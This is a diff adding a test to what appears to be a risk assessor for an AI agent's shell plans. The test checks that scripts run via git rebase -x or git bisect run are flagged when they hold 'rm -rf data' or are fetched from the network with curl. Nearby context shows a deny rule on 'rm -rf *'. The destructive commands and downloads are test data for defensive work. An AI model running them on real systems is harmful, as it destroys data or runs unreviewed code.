@@ -155,6 +155,19 @@ describe('a script the plan writes, then runs', () => {
     expect((await runRisk([write('outer.sh', 'echo ls > d.sh\nsh d.sh\n'), run('sh outer.sh')]))?.level).toBe('destroy');
   });
 
+  it('run by git (rebase -x, bisect run): the same script, written by the plan, downloaded, or written by the line itself', async () => {
+    const lines = ["git rebase -x 'sh t.sh' HEAD~1", 'git bisect run sh t.sh', 'git bisect run ./t.sh', 'git rebase --exec=./t.sh main', 'sudo git bisect run bash ./t.sh', "git -C . rebase -x 'cd . && ./t.sh' HEAD~1"];
+    for (const line of lines) {
+      expect(await runRisk([write('t.sh', 'rm -rf data\n'), run(line)]), line).toEqual({ level: 'destroy', reason: expect.stringMatching(/^runs (\.\/)?t\.sh, which step script writes: rm -rf data$/) });
+      const fetched = await runRisk([{ id: 'fetch', tool: 'shell', args: { command: 'curl -o t.sh https://x.io/t.sh' } }, { ...run(line), dependsOn: ['fetch'] }]);
+      expect(fetched, line).toEqual({ level: 'destroy', reason: expect.stringMatching(/^runs (\.\/)?t\.sh, which step fetch downloads: code nobody reviewed$/) });
+    }
+    for (const line of ['echo "rm -rf data" > t.sh && git bisect run sh t.sh', "echo ls > t.sh; chmod +x t.sh; git rebase -x ./t.sh HEAD~1"]) {
+      expect((await assessPlanRisk(plan([{ id: 'run', tool: 'shell', args: { command: line } }]), options)).steps.run?.level, line).toBe('destroy');
+    }
+    expect((await runRisk([write('t.sh', 'make test\n'), run('git bisect run sh t.sh')]))?.level).toBe('write');
+  });
+
   it("a deny rule on a shell line holds for the script's lines", async () => {
     const policy = parsePolicy('deny:\n  - { shell: "rm -rf *" }\n', '/ws/.ksa/policy.yaml');
     const { decision } = await assessPolicy(plan([write('deploy.sh', 'echo deploying\nrm -rf /tmp/victim\n'), run('sh deploy.sh')]), policy, 'write', options);
